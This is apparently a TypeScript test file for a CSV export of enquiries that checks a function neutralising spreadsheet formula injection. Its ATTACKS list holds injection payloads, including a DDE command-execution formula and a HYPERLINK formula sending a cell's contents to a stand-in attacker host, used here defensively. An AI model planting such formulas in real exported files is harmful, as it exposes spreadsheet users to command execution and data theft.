import { describe, expect, it } from 'vitest'
import { csvOf, harmless } from '../../enquiries/table/csv.ts'
import { tableOf } from '../../enquiries/table/enquiry-table.ts'
import { en } from './messages/inbox.en.ts'
import { uk } from './messages/inbox.uk.ts'
import { coreTime } from '../../../tests/support/core-time.ts'
import { seededRandom } from '../../../tests/support/seeded-random.ts'
import { enquiryOf } from '../../../tests/support/demo/studio/inbox/some-enquiries.ts'

/** Texts that spreadsheets were made to run, each by another way. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '⁼1+1',
  '−1+1',
  '"=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n@SUM(1)',
  'a,"=1+1"',
  'a;"=1+1',
  'a; \u200b＝1+1',
]

describe('harmless', () => {
  it.each(ATTACKS)('takes the formula out of %j', (text) => {
    expect(cellsOf(harmless(text)).filter(isFormula)).toEqual([])
  })

  it.each([
    ['=1', "'=1"],
    ['+380 67 123 45 67', "'+380 67 123 45 67"],
    ['  -5', "'  -5"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['＝1', "'＝1"],
  ])('puts an apostrophe in front of %j', (text, safe) => {
    expect(harmless(text)).toBe(safe)
  })

  it.each([
    'Олена Коваль',
    'a-b',
    'ann@example.com',
    '1 + 1 = 2',
    '“Quoted”',
    'One line\nand another',
    '— Так, — сказала вона.',
    '👩‍👩‍👧 + 2',
    '',
  ])('leaves %j as it is', (text) => {
    expect(harmless(text)).toBe(text)
  })

  it('takes no longer for texts made to slow it down', () => {
    const started = coreTime()
    harmless(`${'\ufeff"'.repeat(200_000)}x`)
    harmless(`; ${' \u200b'.repeat(50)}`.repeat(5000))
    expect(coreTime() - started).toBeLessThan(1000)
  })
})

describe('csvOf', () => {
  it('begins with a byte order mark, quotes every cell, ends lines with CRLF', () => {
    const csv = csvOf([
      ['Name', 'Message'],
      ['Ann "A" Lee', 'One,\ntwo'],
    ])
    expect(csv).toBe('\ufeff"Name","Message"\r\n"Ann ""A"" Lee","One,\ntwo"\r\n')
  })

  it('separates cells by the given character', () => {
    expect(csvOf([['a', 'b']], ';')).toBe('\ufeff"a";"b"\r\n')
  })

  it('gives its texts back to whoever reads it as it is meant', () => {
    const rows = [
      ['a', 'x"y', ''],
      ['one\r\ntwo', 'three,four;five', ' "'],
    ]
    expect(readCsv(csvOf(rows).slice(1), ',')).toEqual(rows)
  })

  it.each([',', ';'] as const)('has no formula for any reader of a file with "%s"', (separator) => {
    const random = seededRandom(6)
    const pieces = [
      ...ATTACKS,
      '=',
      '+',
      '-',
      '@',
      '＝',
      '"',
      "'",
      ',',
      ';',
      '\t',
      '\n',
      '\r',
      ' ',
      'a',
    ]
    const pick = () => pieces[Math.floor(random() * pieces.length)] ?? ''
    const text = () => Array.from({ length: 1 + Math.floor(random() * 5) }, pick).join('')
    for (let round = 0; round < 3000; round++) {
      const csv = csvOf([[text(), text()], [text()]], separator).slice(1)
      for (const read of [',', ';', '\t'])
        expect(readCsv(csv, read).flat().filter(isFormula), JSON.stringify(csv)).toEqual([])
    }
  })
})

describe('tableOf', () => {
  it('has a heading for every column and a row for every enquiry', () => {
    const receivedAt = new Date(2026, 10, 18, 9, 5, 7)
    const enquiry = enquiryOf({
      name: 'Ann',
      phone: '+380671234567',
      phone_number: '?',
      theme: 'no theme',
      form_id: 'event',
      language: 'uk',
      suspicions: 'links,wording',
      status: 'suspected',
      received_at: receivedAt.toISOString(),
      submission_id: '0a1b2c3d-0000-4000-8000-000000000001',
    })
    const nameOf = (userId: number) => `Nr. ${userId}`
    const formName = (id: string) => (id === 'event' ? 'Form for events' : id)
    const notes = ['Called back', '=1+1'].map((text, itemId) => {
      return { itemId, enquiryId: 1, text, authorId: 7, writtenAt: receivedAt.getTime() }
    })
    const options = { messages: en, nameOf, formName, notesOf: () => notes }
    const [headings = [], row = []] = tableOf([{ ...enquiry, assignedTo: 7 }], options)
    const cell = (heading: string) => row[headings.indexOf(heading)]
    expect(headings.length).toBe(24)
    expect(row.length).toBe(24)
    expect(cell('Received')).toBe('2026-11-18 09:05:07')
    expect(cell('Status')).toBe('Suspected')
    expect(cell('Assigned to')).toBe('Nr. 7')
    const zone = cell('Time zone') ?? ''
    const offset = /^UTC([+-])(\d\d):(\d\d)$/.exec(zone)
    const minutes = Number(offset?.[2]) * 60 + Number(offset?.[3])
    expect(offset?.[1] === '-' ? -minutes : minutes).toBe(0 - receivedAt.getTimezoneOffset())
    expect(cell('Notes')).toBe(
      [`Called back`, `=1+1`]
        .map((text) => `2026-11-18 09:05:07 ${zone}, Nr. 7: ${text}`)
        .join('\n'),
    )
    expect(cell('Form')).toBe('Form for events')
    expect(cell('Theme')).toBe('')
    expect(cell('Language of the page')).toBe('Ukrainian')
    expect(cell('Why suspected')).toBe('links, advertising')
    expect(cell('Phone, international')).toBe('check the number')
    expect(cell('Name')).toBe('Ann')
    expect(cell('Phone')).toBe('+380671234567')
    expect(cell('Number')).toBe('0a1b2c3d-0000-4000-8000-000000000001')
    const [ukrainian, unassigned] = tableOf([enquiry], { messages: uk, nameOf, formName })
    expect(ukrainian).toContain('Телефон')
    expect(ukrainian).not.toContain('Нотатки')
    expect(unassigned?.[2]).toBe('')
  })
})

/** What a spreadsheet would run: it looks past what is not seen. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\u2212]/u.test(cell.replace(/^[\s\p{C}]+/gu, '').normalize('NFKC'))
}

/** The cells that any program could find in a text that is not quoted. */
function cellsOf(text: string): string[] {
  return [text, ...[',', ';', '\t'].flatMap((separator) => readCsv(text, separator).flat())]
}

/** Reads CSV as Excel does: a cell that begins with a quote ends with one, and what follows is added as it is. */
function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  const endCell = () => {
    rows.at(-1)?.push(cell)
    cell = ''
  }
  let isStart = true
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? ''
    if (isQuoted) {
      if (sign !== '"') cell += sign
      else if (text[at + 1] === '"') cell += text[++at]
      else isQuoted = false
    } else if (sign === '"' && isStart) isQuoted = true
    else if (sign === separator) endCell()
    else if (sign === '\r' && text[at + 1] === '\n') continue
    else if (sign === '\n' || sign === '\r') {
      endCell()
      rows.push([])
    } else cell += sign
    isStart = !isQuoted && (sign === separator || sign === '\n' || sign === '\r')
  }
  if (cell !== '' || (rows.at(-1)?.length ?? 0) > 0) endCell()
  return rows.filter((row) => row.length > 0)
}
